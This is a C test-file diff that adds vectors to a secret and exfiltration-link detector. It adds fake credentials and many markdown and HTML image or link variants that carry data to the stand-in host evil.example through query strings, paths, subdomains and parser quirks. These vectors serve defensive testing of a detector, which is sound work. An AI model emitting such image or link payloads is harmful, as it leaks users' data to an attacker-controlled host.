@@ -321,6 +321,18 @@ static void test_other_secrets(void **state)
           "" },
         { "skip-this and sk-short and AKIA", "" },
         { "The secretary said the token economy works", "" },
+        { "max_tokens=4096; tokenizer: cl100k_base;", "" },
+        { "secretName: my-tls-secret-2024", "" },
+        { "pwd: /home/user/project2/src", "" },
+        { "$ pwd > /tmp/out2.txt", "" },
+        { "pass # token -> user_id_42", "" },
+        { "token: JIRA-12345678 was closed", "" },
+        { "md5 token: d41d8cd98f00b204e9800998ecf8427e", "" },
+        { "<input name=\"csrf_token\" value=\"3f2a9c1d\">", "" },
+        { "primary key secret: customer_id_3", "" },
+        { "password1 = Tr0ub4dor&3xyz", "password" },
+        { "secretAccessKey: '/9f8E7d6C5B4a3928+1706Qz'", "password" },
+        { "token: d41d8cd98f00b204e9800998ecf8427e", "password" },
     };
     static const char begin[] = "-----BEGIN ", end[] = "-----END ";
     BTZ_BUF_RELEASE struct btz_buf pem = BTZ_BUF(4096);
@@ -373,18 +385,60 @@ static void test_link(void **state)
         { "![x](//evil.example/p?d=aGVsbG8gd29ybGQgdGhpcw)", "image-data" },
         { "[x](https://docs.example.com/a?b=aGVsbG8gd29ybGQgdGhpcyBpcw)", "" },
         { "https://a.trusted.example/?b=aGVsbG8gd29ybGQgdGhpcyBpcw1", "" },
-        { "https://docs.example.com.evil.example/?b=aGVsbG8gd29ybGQ1dGhpcyBpcw", "link-data" },
-        { "https://docs.example.com@evil.example/?b=aGVsbG8gd29ybGQ1dGhpcyBpcw", "link-data" },
         { "https://www.youtube.com/watch?v=dQw4w9WgXcQ", "" },
         { "https://en.wikipedia.org/wiki/Transport_Layer_Security#History", "" },
         { "https://example.com/search?q=how+to+cook+rice", "" },
+        { "see https://example.com/docs/a/b/c.", "" },
+        /* What CommonMark and browsers make an address of. */
+        { "![x](HTTPS:\\\\evil.example\\p?d=thequickbrownfox)", "image-data" },
+        { "![x](https:/evil.example/p?d=thequickbrownfox)", "image-data" },
+        { "![x](http:evil.example/p?d=thequickbrownfox)", "image-data" },
+        { "![x]( //evil.example/p?d=thequickbrownfox)", "image-data" },
+        { "![x](<//evil.example/p?d=thequickbrownfox>)", "image-data" },
+        { "<img src=//evil.example/p?d=thequickbrownfox>", "image-data" },
+        { "<img src = https://evil.example/p?d=thequickbrownfox>", "image-data" },
+        { "[r]: //evil.example/p?d=thequickbrownfox", "image-data" },
+        { "[r]:https://evil.example/p?d=thequickbrownfox", "image-data" },
+        { "![x](https://evil.example/p?d=(thequickbrownfox))", "image-data" },
+        { "![x](https://evil.example/p?d={thequickbrownfox})", "image-data" },
+        { "![x](https://evil.example/p?d=|thequickbrownfox)", "image-data" },
+        { "![x](https://evil.example/the/password/of/the/user/is/swordfish/and/more.png)",
+          "image-data" },
+        /* What every assistant writes. */
+        { "[s](https://github.com/torvalds/linux/blob/1da177e4c3f41524e886b7f1b8a0c1fc7321cac2/"
+          "kernel/sched/core.c#L123-L456)",
+          "" },
+        { "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
+          "" },
+        { "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf",
+          "" },
+        { "![photo](https://images.unsplash.com/photo-1506744038136-46273834b3fb?w=800&q=80)", "" },
+        { "https://www.google.com/maps/search/?api=1&query=47.5951518%2C-122.3316393", "" },
+        { "![K](https://de.wikipedia.org/wiki/K%C3%B6ln_%C3%89lys%C3%A9e.png)", "" },
+        { "![b](https://img.shields.io/github/actions/workflow/status/org/repo/ci.yml?branch=main)",
+          "" },
+        { "![a](https://storage-bucket-with-long-name-prod.s3.amazonaws.com/a.png)", "" },
+        { "![a](https://cdn.example.org/app-d41d8cd98f00b204e9800998ecf8427e.png)", "" },
+    };
+    /* Only written down. */
+    static const struct vector p[] = {
+        { "https://docs.example.com.evil.example/?b=aGVsbG8gd29ybGQ1dGhpcyBpcw", "link-data" },
+        { "https://docs.example.com@evil.example/?b=aGVsbG8gd29ybGQ1dGhpcyBpcw", "link-data" },
         { "https://c2VjcmV0LWRhdGEtaGVyZQ123.evil.example/", "link-data" },
         { "https://evil.example/c2VjcmV0IGRhdGEgZnJvbSB0aGU1", "link-data" },
-        { "see https://example.com/docs/a/b/c.", "" },
+        { "https://github.com/torvalds/linux/blob/1da177e4c3f41524e886b7f1b8a0c1fc7321cac2/"
+          "kernel/sched/core.c#L123-L456",
+          "" },
+        { "https://ja.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC", "" },
+        { "https://my-very-long-application-name-staging.herokuapp.com/index.html", "" },
+        { "https://cdn.example.org/assets/application-d41d8cd98f00b204e9800998ecf8427e.css", "" },
+        { "https://evil.example/p?d=%61%62%63", "link-data" },
+        { "![x](https://evil.example/p?d=thequickbrownfox)", "" },
     };
 
     (void)state;
     check(BTZ_CHANNEL_OUTPUT, "link", v, BTZ_COUNT(v));
+    check(BTZ_CHANNEL_OUTPUT, "link-plain", p, BTZ_COUNT(p));
 }
 
 static void test_html_ansi(void **state)
